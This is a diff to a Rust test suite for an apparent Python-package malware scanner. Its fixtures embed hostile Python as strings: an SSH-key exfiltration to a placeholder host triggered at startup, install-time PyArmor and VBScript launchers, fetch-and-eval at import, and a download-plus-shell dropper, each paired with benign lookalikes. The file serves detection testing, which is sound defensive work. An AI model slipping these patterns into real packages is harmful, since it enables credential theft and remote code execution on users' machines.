@@ -5,33 +5,12 @@
 
 #![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]
 
+mod common;
+
+use common::{SETUP, sdist, wheel};
 use std::io::Write;
 
-use custody_inspect::analysis::{Report, Verdict, inspect};
-use custody_inspect::archive::{Limits, read};
-
-/// An sdist `pkg-1.0.tar.gz` with these files under `pkg-1.0/`.
-fn sdist(files: &[(&str, &str)]) -> Report {
-    let dir = tempfile::tempdir().unwrap();
-    let p = dir.path().join("pkg-1.0.tar.gz");
-    let gz = flate2::write::GzEncoder::new(
-        std::fs::File::create(&p).unwrap(),
-        flate2::Compression::fast(),
-    );
-    let mut t = tar::Builder::new(gz);
-    for (name, data) in files {
-        let mut h = tar::Header::new_gnu();
-        h.set_size(data.len() as u64);
-        h.set_mode(0o644);
-        h.set_cksum();
-        t.append_data(&mut h, format!("pkg-1.0/{name}"), data.as_bytes())
-            .unwrap();
-    }
-    t.into_inner().unwrap().finish().unwrap().flush().unwrap();
-    inspect(&read(&p, &Limits::default()).unwrap())
-}
-
-const SETUP: &str = "from setuptools import setup\nsetup(name='pkg')\n";
+use custody_inspect::analysis::Verdict;
 
 #[test]
 fn fernet_encrypted_exec_in_an_install_command_is_malicious() {
@@ -107,23 +86,13 @@ fn docstrings_that_show_code_are_not_code() {
 
 #[test]
 fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
-    let dir = tempfile::tempdir().unwrap();
-    let p = dir.path().join("pkg-1.0-py3-none-any.whl");
-    let mut z = zip::ZipWriter::new(std::fs::File::create(&p).unwrap());
-    let files = [
+    let r = wheel(&[
         ("pkg.start", "pkg.hook:run\n"),
         (
             "pkg/__init__.py",
             "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
         ),
-    ];
-    for (name, data) in files {
-        z.start_file(name, zip::write::SimpleFileOptions::default())
-            .unwrap();
-        z.write_all(data.as_bytes()).unwrap();
-    }
-    z.finish().unwrap();
-    let r = inspect(&read(&p, &Limits::default()).unwrap());
+    ]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
     assert!(
         r.findings.iter().any(|f| f.path == "pkg/__init__.py"
@@ -836,4 +805,60 @@ fn a_function_that_walks_the_environment_and_sends_is_malicious() {
     let show = "from os import environ\n\ndef show():\n    for k, v in environ.items():\n        print(k, v)\n";
     let r = sdist(&[("setup.py", SETUP), ("ctx.py", show)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn pyarmor_code_run_while_installing_is_malicious() {
+    // reqyest3 2.19.0: an install command runs a PyArmor blob.
+    let setup = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        from pytransform import pyarmor_runtime\n        pyarmor_runtime()\n        __pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n        os.system('true')\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A module a vendor protects with PyArmor cannot be read: worth a look.
+    let module = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn an_encoded_script_host_launcher_written_and_started_at_install_is_malicious() {
+    // aiohttp-sock 0.1.40: a base64 VBScript that starts `pythonw`, written
+    // out and started by setup.py.
+    use base64::Engine;
+    let vbs = base64::engine::general_purpose::STANDARD.encode(
+        "Set s = WScript.CreateObject(\"WScript.Shell\")\ns.Exec \"pythonw.exe placeholder.pyw\"\n",
+    );
+    let setup = format!(
+        "import base64\nfrom subprocess import Popen\nfrom setuptools import setup\nsetup(name='pkg')\nwith open('x.vbs', 'w') as f:\n    f.write(base64.b64decode('{vbs}').decode())\nPopen('x.vbs', shell=True)\n"
+    );
+    let r = sdist(&[("setup.py", &setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A shortcut library names the same object in plain sight.
+    let lib = "import win32com.client\ndef shortcut(path, target):\n    shell = win32com.client.Dispatch('WScript.Shell')\n    s = shell.CreateShortCut(path)\n    s.Targetpath = target\n    s.save()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lib)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+#[test]
+fn fetched_text_spliced_into_an_f_string_and_evaluated_at_import_is_malicious() {
+    // bobikssf 0.4: `raw = requests.get(paste).text`, `eval(f"b'{raw}'")`.
+    let module = "import requests\nraw = requests.get('http://127.0.0.1:9/raw/x').text\nbob = eval(f\"b'{raw}'\")\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A constant spliced in is code in plain sight.
+    let plain = "import requests\nname = 'value'\nx = eval(f\"'{name}'\")\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plain)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_download_and_a_build_step_in_two_setup_helpers_are_not_a_dropper() {
+    // reportlab: setup.py downloads font data in one helper and runs a
+    // compiler in another.
+    let helpers = "import subprocess, urllib.request\nfrom setuptools import setup\ndef fonts():\n    return urllib.request.urlopen('http://127.0.0.1:9/fonts.zip').read()\ndef build():\n    subprocess.call(['make'])\nfonts()\nbuild()\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", helpers)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Both in one place: fetched and a program started.
+    let dropper = "import subprocess, urllib.request\nfrom setuptools import setup\ndata = urllib.request.urlopen('http://127.0.0.1:9/x').read()\nsubprocess.call(['sh', '-c', 'true'])\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", dropper)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
